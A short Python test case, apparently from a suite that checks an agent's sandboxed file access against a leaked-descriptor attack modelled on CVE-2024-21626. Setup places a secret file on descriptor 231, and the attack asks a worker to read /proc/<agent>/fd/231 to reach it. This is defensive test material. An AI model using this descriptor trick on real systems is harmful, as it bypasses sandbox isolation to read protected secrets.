# title: read what the agent has open, through its list of descriptors
# reference: CVE-2024-21626, https://man7.org/linux/man-pages/man5/proc_pid_fd.5.html
# real: error: Too many levels of symbolic links
# weakened: decided on the text
# proof: canary

import os


def arrange(place):
    secret = os.open(place.secret, os.O_RDONLY)
    os.dup2(secret, 231)
    os.close(secret)
    return lambda: os.close(231)


def attack(worker):
    return worker.call("fs.read", f"/proc/{worker.agent}/fd/231")
